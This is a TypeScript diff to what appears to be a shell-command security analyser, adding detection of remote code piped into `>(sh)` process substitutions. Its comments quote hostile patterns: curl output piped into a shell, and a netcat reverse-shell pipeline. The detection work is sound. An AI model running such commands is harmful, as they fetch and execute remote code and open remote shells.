@@ -57,7 +57,20 @@ export function shellStdin(inv: Invocation, name: string, ex: Extraction, st: No
     if (!language) for (const t of prev ? printedWith(prev, (st.values === undefined ? (st.values = staticValues(ex)) : st.values) ?? null) : []) ops.payload(t, `| ${name}`, sc.span, inv, st, true);
     return ops.opaque(inv, carrier, 'stdin', st, extra);
   }
-  ops.opaque(inv, carrier, 'stdin', st, extra);
+  // `curl … | tee >(sh)`, `curl … > >(sh)`: inside >(…) stdin is what the command around it writes
+  ops.opaque(inv, carrier, writtenByNetwork(sc, ex, ops) ? 'network' : 'stdin', st, extra);
+}
+
+/** Is `sc` inside a `>(…)` of a command that prints (or passes on) what a network program fetched? */
+function writtenByNetwork(sc: SimpleCommand, ex: Extraction, ops: Ops): boolean {
+  for (const e of sc.context) {
+    if (e.kind !== 'procsub' || ex.source[e.span.start] !== '>') continue;
+    for (const c of ex.commands) {
+      if (c === sc || c.span.start > e.span.start || c.span.end < e.span.end || c.context.length >= sc.context.length) continue;
+      if (ops.networkOutput(c, ex) || ops.networkPipe(c, ex)) return true;
+    }
+  }
+  return false;
 }
 
 /** A stage that reads a file a network program writes into (`cat f | sh -i 2>&1 | nc H P > f`). */
